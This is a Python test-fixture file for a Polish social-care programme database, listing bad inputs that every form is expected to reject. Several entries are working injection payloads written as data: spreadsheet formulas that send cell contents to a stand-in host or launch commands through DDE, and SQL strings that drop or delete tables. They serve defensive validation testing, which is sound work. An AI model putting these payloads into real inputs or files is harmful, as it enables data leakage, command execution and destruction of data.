"""The hostile-input corpus: bad values for every form and broken files for every import.

Each case is (id, action, fragment): `action(conn)` must raise a KooperacjaError whose Polish message
contains `fragment` (the field, column or row it is about), leaving the warehouse unchanged.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import date
from typing import Any

import duckdb

from kooperacja import lku, wzk
from kooperacja.accounts import users
from kooperacja.cases import core as cases
from kooperacja.cases import delivery as case_delivery
from kooperacja.model.access import Actor
from kooperacja.programme import services as programme

TODAY = date(2026, 11, 24)
GMINA = "3401011"  # animator1's pilot gmina in the demo region (joined 10.07.2025)
OTHER_GMINA = "3403011"  # animator2's
ADMIN = Actor("admin", "admin")
ANIMATOR = Actor("animator1", "animator", frozenset({"3401011", "3401032", "3401043", "3401052", "3402013",
                                                    "3402032"}))  # fmt: skip
HUGE = "x" * 100_000  # 100 kB
FORMULAS = ['=HYPERLINK("http://zly.example/?"&A1,"Kliknij")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2"]  # fmt: skip
CONTROL = ["a\x00b", "dzwonek\x07", "esc\x1b[31m", "del\x7f"]
IMPOSSIBLE_DATES = ["2026-02-30", "30.02.2026", "2026-13-01", "jutro", ""]
IMPLAUSIBLE_DATES = [date(1899, 12, 31), date(2099, 1, 1), date(2009, 12, 31)]
# Hardening issue, finding 2: what was saved outside the case fields, and the variants that passed in them.
PERSONAL = {
    "pesel": "PESEL 44051401359",
    "pesel-spaced": "PESEL 44 05 14 01 359",
    "pesel-dashed": "440-514-013-59",
    "name": "Jan Kowalski",
    "name-lower": "jan kowalski",
    "name-initial": "Nowak J.",
    "phone": "tel. 501 234 567",
    "phone-2222": "501 23 45 67",
    "email": "jan.kowalski@wp.pl",
    "email-at": "jan.kowalski(at)wp.pl",
    "address": "ul. Lipowa 5/2",
    "address-streetless": "Lipowa 5 m. 2, Toruń",
    "birth-date": "ur. 14.05.1944 r.",
}
# An institution's contact may hold a phone and an e-mail, but not a person's e-mail nor anything else.
CONTACT_PERSONAL = {k: v for k, v in PERSONAL.items() if not k.startswith("phone") and k != "email"} | {
    "email-person": "jan.kowalski@wp.pl"
}
BAD_TERC = ["340101", "34010111", "3401019", "abcdefg", "'; DROP TABLE zgloszenie; --", None]

Case = tuple[str, Callable[[duckdb.DuckDBPyConnection], Any], str]


def _zgloszenie(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    data = {"terc": GMINA, "route": "rops", "received_on": date(2026, 11, 2), **changes}
    return lambda conn: programme.record_zgloszenie(conn, ANIMATOR, data, TODAY)


def _event(actor: Actor = ANIMATOR, **changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    kw = {"terc": GMINA, "substep": "5.1", "kind": "started", "event_on": date(2026, 10, 1), **changes}
    return lambda conn: programme.record_step_event(conn, actor, today=TODAY, **kw)


def _shift(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    kw = {"terc": GMINA, "days": 14, "reason": "powódź", **changes}
    return lambda conn: programme.shift_plan(conn, ANIMATOR, today=TODAY, **kw)


def _institution(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    data = {
        "name": "Klub Seniora",
        "sector": "pomoc_spoleczna",
        "level": "gmina",
        "seat_terc": GMINA,
        **changes,
    }
    return lambda conn: programme.add_institution(conn, ADMIN, data)


def _member(institution_id: int, terc: str = GMINA, signed_on: Any = date(2026, 10, 1)):
    return lambda conn: programme.add_pzk_member(
        conn, ANIMATOR, terc=terc, institution_id=institution_id, signed_on=signed_on
    )


def _case(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    kw = {"terc": GMINA, "kind": "rodzina", "referred_on": date(2026, 11, 1), **changes}
    return lambda conn: cases.register_case(conn, ANIMATOR, today=TODAY, **kw)


def _meeting(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    data = {"kind": "pzk", "terc": GMINA, "held_on": date(2026, 11, 3), **changes}
    return lambda conn: programme.record_meeting(conn, ANIMATOR, data, [])


def _service(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    data = {"institution_id": 1, "name": "Poradnictwo rodzinne", "category": "poradnictwo",
            "target_groups": ["rodziny"], "problem_areas": ["ubostwo"], "level": "gmina",
            "area_terc": GMINA, "valid_from": date(2026, 1, 1), **changes}  # fmt: skip
    return lambda conn: lku.add_service(conn, ADMIN, data)


def _wzk_member(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    data = {"full_name": "Anna Nowak", "role": "członkini", "from_on": date(2026, 1, 1), **changes}
    return lambda conn: wzk.add_member(conn, ADMIN, data)


def _recommendation(**changes: Any) -> Callable[[duckdb.DuckDBPyConnection], Any]:
    data = {"kind": "legal", "text": "Zmienić regulamin", "owner": "Dyrektor ROPS", **changes}
    return lambda conn: wzk.add_recommendation(conn, ADMIN, data, TODAY)


def _user(
    username: str = "nowy", name: str = "Nowa Osoba", role: str = "animator", password: Any = "tajne-haslo-26"
):
    return lambda conn: users.add_user(conn, ADMIN, username, name, role, password)


def _each(name: str, make: Callable[[str], Any], field: str, values: dict[str, str] = PERSONAL) -> list[Case]:
    """One case per kind of personal data, refused with the field and the kind ("Uwagi: wygląda na")."""
    return [(f"{name}-{kind}", make(value), f"{field}: wygląda na") for kind, value in values.items()]


FORM_CASES: list[Case] = [
    *[(f"zgloszenie-date-{v}", _zgloszenie(received_on=v), "Data wpływu") for v in IMPOSSIBLE_DATES],
    *[(f"zgloszenie-date-{v}", _zgloszenie(received_on=v), "Data wpływu") for v in IMPLAUSIBLE_DATES],
    ("zgloszenie-future", _zgloszenie(received_on=date(2026, 12, 1)), "Data wpływu: jest w przyszłości"),
    ("zgloszenie-int-date", _zgloszenie(received_on=12345), "Data wpływu"),
    *[(f"zgloszenie-terc-{v}", _zgloszenie(terc=v), "Kod TERC gminy") for v in BAD_TERC],
    ("zgloszenie-route", _zgloszenie(route="hack"), "Tryb zgłoszenia"),
    *[(f"zgloszenie-formula-{i}", _zgloszenie(note=v), "Uwagi") for i, v in enumerate(FORMULAS)],
    *[(f"zgloszenie-control-{i}", _zgloszenie(note=v), "Uwagi") for i, v in enumerate(CONTROL)],
    ("zgloszenie-100kB", _zgloszenie(note=HUGE), "Uwagi: tekst za długi"),
    ("zgloszenie-bool", _zgloszenie(has_diagnosis="może"), "Diagnoza gminy"),
    ("zgloszenie-extra-field", _zgloszenie(is_admin=True), "is_admin: nieznane pole"),
    ("zgloszenie-signed-after", _zgloszenie(signed_on=date(2026, 11, 10)), "Data podpisania porozumienia"),
    ("zgloszenie-self-unsigned", _zgloszenie(route="self_formed"), "Data podpisania porozumienia"),
    (
        "zgloszenie-contact-before",
        _zgloszenie(first_contact_on=date(2026, 10, 1)),
        "Data pierwszego kontaktu",
    ),
    ("zgloszenie-other-gmina", _zgloszenie(terc=OTHER_GMINA), "gminy Kamionka Wielka (miejska)"),
    ("event-substep-format", _event(substep="99.1"), "Podkrok"),
    ("event-substep-unknown", _event(substep="10.99"), "Podkrok: 10.99"),
    ("event-kind", _event(kind="deleted"), "Zdarzenie"),
    ("event-before-pilot", _event(event_on=date(2024, 1, 1)), "przed przystąpieniem"),
    ("event-1899", _event(event_on=date(1899, 1, 1)), "Data"),
    ("event-future", _event(event_on=date(2026, 12, 1)), "w przyszłości"),
    ("event-feb30", _event(event_on="2026-02-30"), "Data"),
    ("event-evidence-formula", _event(evidence="=1+2"), "Dokument"),
    ("event-note-control", _event(note="a\x00b"), "Uwagi"),
    ("event-other-gmina", _event(terc=OTHER_GMINA), f"gminy o kodzie TERC {OTHER_GMINA}"),
    ("event-unknown-gmina", _event(actor=ADMIN, terc="9999991"), "9999991"),
    ("event-region-by-animator", _event(terc=None), "administrator"),
    ("shift-negative", _shift(days=-1000), "Przesunięcie (dni)"),
    ("shift-huge", _shift(days=10**9), "Przesunięcie (dni)"),
    ("shift-text", _shift(days="dużo"), "Przesunięcie (dni)"),
    ("shift-reason-empty", _shift(reason=""), "Powód przesunięcia"),
    ("shift-reason-formula", _shift(reason="=cmd|' /C calc'!A0"), "Powód przesunięcia"),
    ("shift-substep-unknown", _shift(substep="7.77"), "Podkrok"),
    ("shift-other-gmina", _shift(terc=OTHER_GMINA), f"gminy o kodzie TERC {OTHER_GMINA}"),
    ("institution-name-empty", _institution(name=""), "Nazwa instytucji"),
    ("institution-name-100kB", _institution(name=HUGE), "Nazwa instytucji"),
    ("institution-name-formula", _institution(name=FORMULAS[0]), "Nazwa instytucji"),
    ("institution-name-control", _institution(name="Klub\x1f"), "Nazwa instytucji"),
    ("institution-sector", _institution(sector="bank"), "Sektor"),
    ("institution-level", _institution(level="kosmos"), "Poziom"),
    ("institution-seat", _institution(seat_terc="123"), "Siedziba (TERC)"),
    ("institution-seat-sql", _institution(seat_terc="34' OR '1'='1"), "Siedziba (TERC)"),
    ("pzk-other-powiat", _member(68), "poza powiatem"),
    ("pzk-unknown-institution", _member(-5), "-5"),
    ("pzk-duplicate", _member(1), "już należy do PZK"),
    ("pzk-2099", _member(2, signed_on=date(2099, 1, 1)), "Data podpisania"),
    ("pzk-other-gmina", _member(1, terc=OTHER_GMINA), f"gminy o kodzie TERC {OTHER_GMINA}"),
    ("case-kind", _case(kind="pies"), "Rodzaj"),
    ("case-future", _case(referred_on=date(2027, 1, 1)), "Data zgłoszenia"),
    ("case-1899", _case(referred_on=date(1899, 1, 1)), "Data zgłoszenia"),
    ("case-consent-before", _case(consent_on=date(2026, 10, 1)), "Data zgody"),
    ("case-problem-unknown", _case(problems=["nieznany"]), "nieznany"),
    (
        "case-not-pilot",
        lambda c: cases.register_case(
            c, ADMIN, terc="3401021", kind="osoba", referred_on=date(2026, 11, 1), today=TODAY
        ),
        "3401021",
    ),
    (
        "case-close-no-reason",
        lambda c: case_delivery.close_case(
            c, ANIMATOR, "P-3401011-0001", closed_on=TODAY, reason=None, today=TODAY
        ),
        "Powód zakończenia",
    ),
    (
        "case-followup-open",
        lambda c: case_delivery.record_followup(
            c, ANIMATOR, "P-3401011-0001", until=TODAY, note=None, today=TODAY
        ),
        "Monitoring po zakończeniu",
    ),
    (
        "case-unknown",
        lambda c: case_delivery.close_case(
            c, ANIMATOR, "P-3401011-9999", closed_on=TODAY, reason="other", today=TODAY
        ),
        "P-3401011-9999",
    ),
    ("meeting-pesel", _meeting(agenda="Rodzina Kowalskich, PESEL 44051401359"), "Porządek"),
    ("meeting-kind", _meeting(kind="impreza"), "Rodzaj spotkania"),
    ("meeting-2099", _meeting(held_on=date(2099, 1, 1)), "Data spotkania"),
    ("service-area", _service(area_terc="34"), "Obszar (TERC)"),
    ("service-category", _service(category="Zła Kategoria!"), "Kategoria"),
    ("service-groups-not-list", _service(target_groups="rodziny"), "Dla kogo"),
    ("service-name-100kB", _service(name=HUGE), "Nazwa usługi"),
    ("service-access-formula", _service(access='=HYPERLINK("x")'), "Jak skorzystać"),
    ("service-valid-from", _service(valid_from="2026-02-30"), "Ważna od"),
    ("wzk-member-name-empty", _wzk_member(full_name=""), "Imię i nazwisko członka WZK"),
    ("wzk-member-date", _wzk_member(from_on="2026-13-01"), "Od"),
    ("wzk-member-formula", _wzk_member(role="@SUM(A1:A9)"), "Funkcja"),
    ("recommendation-kind", _recommendation(kind="x"), "Rodzaj"),
    ("recommendation-formula", _recommendation(text="=2+2"), "Treść rekomendacji"),
    ("recommendation-100kB", _recommendation(text=HUGE), "Treść rekomendacji"),
    (
        "recommendation-status-future",
        lambda c: wzk.set_recommendation_status(c, ADMIN, 1, "done", date(2027, 1, 1), TODAY),
        "Data statusu",
    ),
    (
        "recommendation-stale",
        lambda c: wzk.set_recommendation_status(c, ADMIN, 3, "done", TODAY, TODAY, expected_version=0),
        "odśwież i spróbuj ponownie",
    ),
    *_each("event-note", lambda v: _event(note=v), "Uwagi"),
    *_each("event-evidence", lambda v: _event(evidence=v), "Dokument (protokół, porozumienie)"),
    *_each("shift-reason", lambda v: _shift(reason=v), "Powód przesunięcia"),
    *_each("zgloszenie-note", lambda v: _zgloszenie(note=v), "Uwagi"),
    *_each("institution-name", lambda v: _institution(name=f"Klub {v}"), "Nazwa instytucji"),
    ("institution-name-person", _institution(name="Stowarzyszenie Jan Kowalski i Syn"), "Nazwa instytucji"),
    *_each("recommendation-text", lambda v: _recommendation(text=f"Wesprzeć: {v}"), "Treść rekomendacji"),
    *_each("recommendation-owner", lambda v: _recommendation(owner=v), "Odpowiedzialny"),
    *_each("service-access", lambda v: _service(access=v), "Jak skorzystać"),
    *_each("service-contact", lambda v: _service(contact=v), "Kontakt", CONTACT_PERSONAL),
    ("wzk-member-name-pesel", _wzk_member(full_name="Anna Nowak 44051401359"), "Imię i nazwisko członka WZK"),
    ("wzk-member-role-phone", _wzk_member(role="członkini, tel. 501 234 567"), "Funkcja: wygląda na"),
    ("user-login-format", _user(username="Zły Login!"), "Login"),
    ("user-login-sql", _user(username="x'; DELETE FROM app_user; --"), "Login"),
    ("user-duplicate", _user(username="admin"), "Login: użytkownik admin już istnieje"),
    ("user-role", _user(role="superuser"), "Rola"),
    ("user-password-short", _user(password="abc"), "Hasło"),
    ("user-password-80-bytes", _user(password="ż" * 40), "Hasło"),
    ("user-name-empty", _user(name="   "), "Imię i nazwisko"),
]
